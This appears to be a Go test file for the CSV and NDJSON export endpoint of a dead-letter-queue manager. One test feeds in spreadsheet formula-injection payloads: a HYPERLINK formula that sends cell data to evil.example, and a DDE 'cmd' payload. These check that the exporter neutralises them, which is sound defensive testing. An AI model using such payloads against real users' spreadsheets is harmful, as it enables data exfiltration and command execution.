package rest

import (
	"bufio"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/dlq-manager/dlq-manager/internal/test/check"
	"github.com/dlq-manager/dlq-manager/pkg/entity"
	"github.com/dlq-manager/dlq-manager/pkg/repository"
	"github.com/dlq-manager/dlq-manager/pkg/repository/repositorytest/fake"
	"github.com/dlq-manager/dlq-manager/pkg/rest/handlers/search"
	"github.com/dlq-manager/dlq-manager/pkg/rest/internal/resttest"
	"github.com/dlq-manager/dlq-manager/pkg/rest/wire"
)

// An export contains exactly the messages that a search with the same filter finds, one per line, in the JSON of lists.
func TestExport_IsTheFilter(t *testing.T) {
	t.Parallel()
	f := searchFixture(t)
	for _, query := range []string{"", "?topic=orders.dlq.v1", "?origin=unknown", "?payload=$.customer.id%3D42", "?q=refused", "?status=DEAD"} {
		listed := wantStatus(t, f.do("GET", "/api/v1/messages"+query, ""), 200)
		w := f.do("GET", "/api/v1/export"+query, "")
		lines := slices.Collect(strings.Lines(wantStatus(t, w, 200)))
		want := strings.ReplaceAll(strings.TrimSuffix(strings.Join(lines, ","), "\n"), "\n,", ",")
		if got := listed[len(`{"messages":[`):strings.LastIndex(listed, `],"next_cursor"`)]; got != want {
			t.Errorf("export%s\n got %s\nwant %s", query, want, got)
		}
		wantHeader(t, w.Result().Trailer, search.ExportMessages, fmt.Sprint(len(lines)))
		wantHeader(t, w.Result().Trailer, search.ExportComplete, "true")
		wantHeader(t, w.Header(), "Content-Type", "application/x-ndjson")
		wantHeader(t, w.Header(), "Content-Disposition", `attachment; filename="messages.ndjson"`)
	}
}

// An export that ends at its limit is marked incomplete.
func TestExport_IsBounded(t *testing.T) {
	t.Parallel()
	f := searchFixture(t)
	for limit, complete := range map[int]string{1: "false", 5: "false", 6: "true", 7: "true", 1_000_000: "true"} {
		w := f.do("GET", fmt.Sprintf("/api/v1/export?limit=%d", limit), "")
		want := min(limit, 6)
		if got := strings.Count(w.Body.String(), "\n"); got != want {
			t.Errorf("limit %d: %d lines, want %d", limit, got, want)
		}
		wantHeader(t, w.Result().Trailer, search.ExportMessages, fmt.Sprint(want))
		wantHeader(t, w.Result().Trailer, search.ExportComplete, complete)
	}
}

// Every line of a CSV has the columns that its first line names, which are the fields of the JSON in the same order.
func TestExport_CSV(t *testing.T) {
	t.Parallel()
	f := newFixture(resttest.Full(withValue(`{"a": "x,\"y\"", "b":"修正"}`)))
	f.with(WithDialects(stackTraces{of: func(entity.Message) string { return "at x\n\tat y" }})).open()
	w := f.do("GET", "/api/v1/export?format=csv", "")
	rows, err := csv.NewReader(w.Body).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v, want a head and one message", len(rows), err)
	}
	line, cells := f.do("GET", "/api/v1/export", "").Body.String(), map[string]string{}
	for i, name := range rows[0] {
		_, after, found := strings.Cut(line, `"`+name+`":`)
		if line = after; !found {
			t.Errorf("JSON has no %s, or not in its place", name)
		}
		cells[name] = rows[1][i]
	}
	for name, want := range map[string]string{
		"id": idA.String(), "payload": `{"a": "x,\"y\"", "b":"修正"}`, "status": "DEAD", "created_at": "2026-02-20T10:30:00.000+00:00",
		"dlq_partition": "2", "original_offset": "-1", "stack_trace": "at x\n\tat y", "key": "base64:/wA=", "consumer_attempts": "5",
		"payload_omitted": "", "group_id": idB.String(), "outcome_offset": "12", "masked": "", "retry_count": "3",
	} {
		check.True(t, cells[name] == want, "%s = %q, want %q", name, cells[name], want)
	}
	wantHeader(t, w.Header(), "Content-Type", "text/csv; charset=utf-8; header=present")
	if got := newFixture().open().do("GET", "/api/v1/export?format=csv", "").Body.String(); got != wire.CSVHead {
		t.Errorf("an empty export = %q, want the head", got)
	}
}

// No cell of a CSV starts like a formula of a spreadsheet. The original text follows the character that is put in front
// of it.
func TestExport_NoFormulas(t *testing.T) {
	t.Parallel()
	for _, evil := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "\u200b=1", "\ufeff@x",
		`=cmd|' /C calc'!A0`, `=1,2"3`, "\x00=1", " -1",
	} {
		f := newFixture(message(idA, func(m *entity.Message) {
			m.ErrorMessage, m.Record.Key = evil, []byte(evil)
			m.OriginalTopic, m.Failure.Class, m.Failure.ConsumerGroup, m.LastPublishError = evil, evil, evil, evil
		})).open()
		rows, err := csv.NewReader(f.do("GET", "/api/v1/export?format=csv", "").Body).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v", evil, len(rows), err)
		}
		n := 0
		for i, cell := range rows[1] {
			if wire.Formula(cell) {
				t.Errorf("%q: column %s begins with a formula: %q", evil, rows[0][i], cell)
			}
			if rows[0][i] != "cause" && cell == "'"+strings.ReplaceAll(evil, "\r\n", "\n") {
				n++
			}
		}
		check.True(t, n == 6, "%q is in %d cells, want 6", evil, n)
	}
	for _, harmless := range []string{"a=b", "1-1", "x@y", "{}", "'=1"} {
		if wire.Formula(harmless) {
			t.Errorf("formula(%q) = true", harmless)
		}
	}
}

// endless is a store whose exports return the same message until the caller stops or, with err, failAt times.
type endless struct {
	*fake.Store
	given  int
	failAt int
	err    error
}

func (e *endless) Export(ctx context.Context, _ repository.ExportQuery, yield func(*entity.Message) error) error {
	m := resttest.Kilobyte()
	for e.given = 0; e.err == nil || e.given < e.failAt; e.given++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		if err := yield(&m); err != nil {
			return fmt.Errorf("export: %w", err)
		}
	}
	return e.err
}

// When the client disconnects, the store ends its query.
func TestExport_ClientThatLeavesEndsTheQuery(t *testing.T) {
	t.Parallel()
	f := newFixture()
	store := &endless{Store: f.memory}
	f.over(store)
	url, stop, served := f.open().serve(t)
	response, err := http.Get(url + "/api/v1/export?limit=1000000")
	check.NoError(t, err)
	if _, err := bufio.NewReader(response.Body).ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	_ = response.Body.Close()
	stop()
	if err := receive(t, served, "the server's end"); err != nil {
		t.Error(err)
	}
	if store.given >= 1_000_000 {
		t.Errorf("the store returned all of %d messages after the client left", store.given)
	}
}

// An export that fails in the middle does not look complete.
func TestExport_FailureInTheMiddleBreaksTheConnection(t *testing.T) {
	t.Parallel()
	f := newFixture()
	f.over(&endless{Store: f.memory, failAt: 1000, err: errBroken})
	url, stop, _ := f.open().serve(t)
	defer stop()
	response, err := http.Get(url + "/api/v1/export")
	check.NoError(t, err)
	defer func() { _ = response.Body.Close() }()
	if _, err := io.Copy(io.Discard, response.Body); err == nil {
		t.Error("the body ended well, want an error: it is not whole")
	}
	if got := response.Trailer.Get(search.ExportComplete); got != "" {
		t.Errorf("%s = %q, want none", search.ExportComplete, got)
	}
}

func TestExport_FailureBeforeTheFirstLineIsAnAnswer(t *testing.T) {
	t.Parallel()
	for err, status := range map[error]int{errBroken: 500, entity.ErrUnavailable: 503} {
		f := newFixture()
		w := f.over(&endless{Store: f.memory, err: err}).open().do("GET", "/api/v1/export", "")
		wantEnvelope(t, w, status)
		wantHeader(t, w.Header(), "Trailer", "")
	}
}

// discard is a client that reads everything and keeps nothing.
type discard struct{ header http.Header }

func (d discard) Header() http.Header         { return d.header }
func (d discard) WriteHeader(int)             {}
func (d discard) Write(b []byte) (int, error) { return len(b), nil }

// An export allocates at most 64 bytes for each message as NDJSON, and 8 KiB as CSV.
func TestExport_ConstantMemory(t *testing.T) {
	allocated := func(limit int, format string) uint64 {
		f := newFixture()
		f.over(&endless{Store: f.memory}).open()
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		f.discarded(limit, format)
		runtime.ReadMemStats(&after)
		return after.TotalAlloc - before.TotalAlloc
	}
	for format, most := range map[string]uint64{"ndjson": 64, "csv": 8192} {
		few, many := allocated(100, format), allocated(5000, format)
		if each := (many - min(few, many)) / 4900; each > most {
			t.Errorf("%s: %d bytes allocated for each message, want at most %d", format, each, most)
		}
	}
}

// discarded exports to a client that reads everything and keeps nothing.
func (f *fixture) discarded(limit int, format string) {
	r, _ := http.NewRequest("GET", fmt.Sprintf("/api/v1/export?limit=%d&format=%s", limit, format), nil)
	f.server.Handler().ServeHTTP(discard{http.Header{}}, r)
}

func BenchmarkExport(b *testing.B) {
	for _, format := range []string{"ndjson", "csv"} {
		b.Run(format, func(b *testing.B) {
			f := newFixture()
			f.over(&endless{Store: f.memory}).open()
			for b.Loop() {
				f.discarded(10_000, format)
			}
			b.ReportMetric(float64(10_000*b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}
